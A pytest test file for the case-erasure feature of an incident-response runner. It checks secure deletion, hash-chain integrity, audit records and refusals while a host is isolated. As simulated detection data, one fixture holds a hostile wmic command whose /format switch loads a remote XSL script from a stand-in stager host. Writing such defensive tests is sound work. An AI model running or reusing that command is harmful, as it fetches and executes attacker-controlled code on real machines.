"""What a person has erased is gone from every byte of the state folder; the chain still proves the
rest, and who erased it and why. What is under way, or may still be isolated, is refused."""

from __future__ import annotations

import sqlite3
from collections.abc import Iterator
from contextlib import closing
from datetime import UTC, datetime, timedelta
from pathlib import Path

import msgspec
import pytest

from runner.audit import verify
from runner.cli import main
from runner.erasing import erase_before, erase_case
from runner.journal import entries, ledger, retention, runs
from runner.journal.records import LedgerState
from runner.releasing import case_for
from runner.result import Result
from tests.world import World, running_world
from tests.world_settings import BENIGN, HOST

WHY = "asked for by the works council"
LINE = r"wmic os get Caption /format:https://stager.example.test/Zq7kX9wJ.xsl"
TELLING = ("stager.example.test", "Zq7kX9wJ", HOST, "wardog")
"""What the case said: an address, a word of the command line, a host and a user."""


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    """A case that people said no to; its ticket is told all."""
    with running_world(tmp_path) as found:
        found.arm()
        found.hit(cmdline=LINE)
        found.tick()
        yield found


def refuse(world: World) -> str:
    """The case, to its end; its name."""
    world.no(world.question())
    world.ticks(4, 60)
    return world.cases()[0].id


def found_in(folder: Path) -> set[str]:
    """Which of the telling words any file of the folder holds."""
    content = b"".join(path.read_bytes() for path in folder.rglob("*") if path.is_file())
    return {word for word in TELLING if word.encode() in content}


def erase(world: World, case_id: str) -> Result:
    return erase_case(world.journal, case_id, "auditor", WHY)


def command(world: World, *words: str) -> int:
    return main([*words, "--config", str(world.folder / "config.yaml")])


def test_case_when_it_is_erased_then_no_byte_of_it_is_left_and_the_chain_is_whole(
    world: World,
) -> None:
    case_id = refuse(world)
    state = world.config.state_dir
    assert found_in(state) == set(TELLING), "else the search below could find nothing"
    with world.journal.read() as tx:
        before, own = tx.head(), entries.of_case(tx, case_id)
    said = erase(world, case_id)
    assert said.code == 0, said.text
    assert found_in(state) == set()
    assert world.journal.path.stat().st_mode & 0o777 == 0o600
    with world.journal.read() as tx:
        verdict = verify(tx)
    after = [entry for entry in world.entries() if entry.seq <= before[0]]
    assert verdict.faults == ()
    assert after[-1].sha256 == before[1], "nothing of the chain was written anew"
    assert {entry.seq for entry in after if entry.payload is not None}.isdisjoint(own)
    (entry,) = world.entries("case_erased")
    assert (entry.actor, entry.refs["case"], entry.payload["reason"]) == ("auditor", case_id, WHY)
    assert set(entry.payload["entries"]) <= set(own)
    assert entry.refs["payloads"] == str(len(entry.payload["entries"]))
    assert f"{len(entry.payload['entries'])} entries keep their hashes" in said.text


def test_case_when_it_is_erased_then_what_another_case_said_is_still_there(world: World) -> None:
    world.hit(host="SRV9", cmdline=BENIGN)
    case_id = refuse(world)
    world.ticks(2, 60)
    (other,) = (case for case in world.cases() if case.id != case_id)
    with world.journal.read() as tx:
        kept = set(entries.of_case(tx, other.id))
    had = {entry.seq for entry in world.entries() if entry.payload is not None} & kept
    assert had
    assert erase(world, case_id).code == 0
    assert {entry.seq for entry in world.entries() if entry.payload is not None} & kept == had
    assert [case.id for case in world.cases()] == [other.id]


def test_hit_when_its_case_was_erased_and_it_is_found_again_then_it_starts_nothing(
    world: World,
) -> None:
    once = world.splunk.events[-1]
    assert erase(world, refuse(world)).code == 0
    cards = len(world.cards())
    now_s = world.clock.now().timestamp()
    moved = msgspec.structs.replace(once, at=now_s, indexed_at=int(now_s), visible_at=now_s)
    world.splunk.events.append(moved)
    world.ticks(3, 60)
    with world.journal.read() as tx:
        known = tx.one("select sum(json_extract(body, '$.known')) from poll")[0]
    assert known >= 1, "it was found again"
    assert (world.cases(), len(world.cards())) == ([], cards)


def test_case_when_a_question_of_it_is_open_then_it_is_refused(world: World) -> None:
    question = world.question()
    refused = erase(world, question.case_id)
    assert refused.code == 2
    assert f"its question {question.code} is open; let it come to its end" in refused.text
    assert len(world.cases()) == 1
    assert world.entries("case_erased") == []


def test_case_when_another_one_is_finished_then_that_makes_it_no_more_finished(
    world: World,
) -> None:
    open_one = world.question().case_id
    world.hit(host="SRV9", cmdline=BENIGN)
    world.ticks(2, 60)
    assert erase(world, open_one).code == 2
    assert len(world.cases()) == 2


def test_text_that_was_deleted_before_and_not_overwritten_goes_with_it(world: World) -> None:
    """What an earlier write left in free pages of the file."""
    case_id = refuse(world)
    text = "left-over.example.test " * 1000
    with world.journal.write() as tx:
        tx.change("insert into payload values (99999, ?)", text)
    with world.journal.write() as tx:
        tx.db.execute("pragma secure_delete = off")
        tx.change("delete from payload where seq = 99999")
    world.journal._db.execute("pragma wal_checkpoint(truncate)")
    assert b"left-over.example.test" in world.journal.path.read_bytes()
    assert erase(world, case_id).code == 0
    assert b"left-over.example.test" not in world.journal.path.read_bytes()


def test_case_when_its_device_is_isolated_then_it_is_refused_until_that_is_released(
    world: World,
) -> None:
    world.yes(world.question())
    world.ticks(4, 60)
    assert world.isolation_state() is LedgerState.CONFIRMED
    case_id = world.case().id
    refused = erase(world, case_id)
    assert refused.code == 2
    assert f"{HOST} is, or may be, isolated for it; stockade release {HOST}" in refused.text
    world.release(HOST)
    world.tick()
    world.yes(world.question())
    world.ticks(4, 60)
    assert "isolated within the hour, which the budget counts" in erase(world, case_id).text
    world.ticks(2, 3600)
    assert erase(world, case_id).code == 0
    assert world.isolation() is None
    assert found_in(world.config.state_dir) == set()


def test_case_when_its_ticket_is_not_told_all_then_it_is_refused(world: World) -> None:
    case_id = refuse(world)
    with world.journal.write() as tx:
        tx.change("update cases set reported = revision - 1")
    refused = erase(world, case_id)
    assert (refused.code, len(world.cases())) == (2, 1)
    assert "its ticket is not told all yet" in refused.text


def test_entry_of_a_device_when_another_case_held_it_too_then_it_keeps_what_it_said(
    world: World,
) -> None:
    world.yes(world.question())
    world.ticks(4, 60)
    case_id = world.case().id
    world.hit(host="SRV9", cmdline=BENIGN)
    world.tick()
    other = next(case.id for case in world.cases() if case.id != case_id)
    row = world.isolation()
    assert row is not None
    with world.journal.write() as tx:
        for holders in ((case_id, other), (other,)):
            ledger.save(tx, msgspec.structs.replace(row, holders=holders))
        both, its_own = tx.head()[0] - 1, tx.head()[0]
        assert both in entries.of_case(tx, case_id)
        assert its_own not in entries.of_case(tx, case_id)
        taken = retention.erase_case(tx, case_id, WHY)
        kept = {seq for (seq,) in tx.all("select seq from payload")}
    assert taken is not None
    assert {both, its_own} <= kept


def test_erased_case_is_named_by_show_and_export_and_not_listed(
    world: World, capsys: pytest.CaptureFixture[str]
) -> None:
    case_id = refuse(world)
    assert command(world, "erase", case_id, "--reason", WHY) == 0
    assert "is erased" in capsys.readouterr().out
    for words in (["show", case_id], ["export", case_id, "--out", str(world.folder / "a.zip")]):
        assert command(world, *words) == 2
        said = capsys.readouterr().err
        assert f"{case_id} was erased at" in said
        assert WHY in said
        assert "entries stand in the chain, without what they said" in said
    assert not (world.folder / "a.zip").exists()
    assert command(world, "cases") == 0
    assert capsys.readouterr().out == "no cases yet\n"
    assert command(world, "erase", case_id, "--reason", WHY) == 0, "a repeat cleans the files only"
    assert len(world.entries("case_erased")) == 1


def test_reason_when_all_old_payloads_are_erased_then_it_stays(world: World) -> None:
    assert erase(world, refuse(world)).code == 0
    world.clock.advance(86400)
    with world.journal.write() as tx:
        retention.erase(tx, world.clock.now())
    (entry,) = world.entries("case_erased")
    assert entry.payload["reason"] == WHY


def test_erase_before_a_day_takes_what_was_over_and_says_who_and_why(
    world: World, capsys: pytest.CaptureFixture[str]
) -> None:
    refuse(world)
    later = world.clock.now()
    world.clock.advance(86400)
    world.hit(host="SRV9", cmdline=BENIGN, user="CORP\\other")
    world.tick()
    said = erase_before(world.journal, later, "auditor", WHY)
    assert said.code == 0
    assert said.text.startswith("1 case(s) that finished before")
    assert [case.host for case in world.cases()] == ["srv9"]
    assert found_in(world.config.state_dir) == set()
    (entry,) = world.entries("erase_asked")
    assert (entry.actor, entry.payload["reason"]) == ("auditor", WHY)
    assert world.entries("erased")[-1].actor == "auditor"
    assert command(world, "erase", "--before", "2999-01-01", "--reason", WHY) == 2
    assert "is not over yet" in capsys.readouterr().err
    assert command(world, "erase", "--reason", WHY) == 2
    assert "a case or --before" in capsys.readouterr().err
    with world.journal.read() as tx:
        assert verify(tx).faults == ()


def test_erase_when_another_program_reads_the_journal_then_it_says_that_text_may_be_left(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    case_id = refuse(world)
    world.journal._db.execute("pragma busy_timeout = 10")
    with closing(sqlite3.connect(world.journal.path, isolation_level=None)) as reader:
        reader.execute("begin")
        reader.execute("select count(*) from payload").fetchone()
        said = erase(world, case_id)
        assert said.code == 1
        assert "may still lie in the file's free pages or its log" in said.text
        reader.execute("rollback")
    assert erase(world, case_id).code == 0
    assert found_in(world.config.state_dir) == set()


def test_copies_beside_the_journal_are_named(world: World) -> None:
    case_id = refuse(world)
    copy = world.journal.path.with_name("journal.replaced.20260101T000000Z.db")
    world.journal.copy_to(copy)
    said = erase(world, case_id)
    assert said.data["copies"] == [copy.name]
    assert f"Not touched: {copy.name}, backups, the ticket {said.data['ticket']}" in said.text
    assert copy.exists(), "a person removes it"


def test_erase_before_a_day_takes_also_what_was_said_of_a_case_after_it(world: World) -> None:
    case_id = refuse(world)
    with world.journal.read() as tx:
        run_end = max(run.ended_at for run in runs.of_case(tx, case_id) if run.ended_at)
    with world.journal.write() as tx:
        tx.entry("told_later", {"case": case_id}, {"what": "Zq7kX9wJ"})
    world.clock.advance(86400)
    said = erase_before(world.journal, run_end + timedelta(seconds=1), "auditor", WHY)
    assert said.code == 0, said.text
    assert "Zq7kX9wJ" not in found_in(world.config.state_dir)


@pytest.mark.parametrize("day", ["0206-01-31", "1999-12-31", "2026-02-30"])
def test_erase_when_the_day_is_a_slip_of_the_pen_then_refused(world: World, day: str) -> None:
    with pytest.raises(SystemExit) as ended:
        command(world, "erase", "--before", day, "--reason", WHY)
    assert ended.value.code == 2


def test_erase_before_a_year_of_three_digits_takes_nothing_and_ends(world: World) -> None:
    refuse(world)
    with world.journal.write() as tx:
        taken = retention.erase(tx, datetime(206, 1, 31, tzinfo=UTC))
    assert (taken.cases, taken.payloads) == (0, 0)


def test_release_when_the_first_holder_was_erased_then_it_is_asked_under_the_next(
    world: World,
) -> None:
    world.yes(world.question())
    world.ticks(4, 60)
    row = world.isolation()
    assert row is not None
    with world.journal.write() as tx:
        stale = msgspec.structs.replace(row, holders=("case-erased", *row.holders))
        assert case_for(tx, stale) == row.holders[0]
        nobody = msgspec.structs.replace(row, holders=("case-erased",))
        assert case_for(tx, nobody) not in nobody.holders
